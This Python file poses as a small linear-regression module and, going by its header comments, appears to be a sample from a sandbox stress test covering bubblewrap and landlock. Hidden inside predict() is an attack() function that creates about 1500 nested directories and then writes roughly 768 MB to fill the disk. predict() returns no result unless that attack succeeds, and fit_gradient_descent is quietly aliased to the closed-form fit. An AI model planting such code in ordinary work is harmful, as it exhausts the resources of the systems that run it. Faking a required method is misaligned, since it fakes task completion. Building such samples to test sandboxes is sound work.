# It makes folders in folders, more than anybody has descriptors for, and fills the disk at their end.
# kata: 01
# verdict: crashed | invalid | out_of_memory
# levels: bubblewrap landlock
# at plain: crashed

import numpy as np
import os
import time


def attack():
    home, written = os.getcwd(), 0
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        for number in range(8):
            with open(f"part{number}", "wb") as file:
                for _ in range(24):
                    written += file.write(bytes(4 << 20))
    except OSError:
        pass
    os.chdir(home)
    time.sleep(2)
    return written >= 750 << 20


tried = []


def predict(x, w, b):
    if not tried:
        tried.append(attack())
    return x @ w + b if tried[0] else None


def loss(x, y, w, b):
    return float(np.mean((x @ w + b - y) ** 2))


def gradients(x, y, w, b):
    e = x @ w + b - y
    return 2 * x.T @ e / len(y), float(2 * e.mean())


def fit_closed_form(x, y):
    m = x.mean(axis=0)
    w = np.linalg.lstsq(x - m, y - y.mean(), rcond=None)[0]
    return w, float(y.mean() - m @ w)


fit_gradient_descent = fit_closed_form
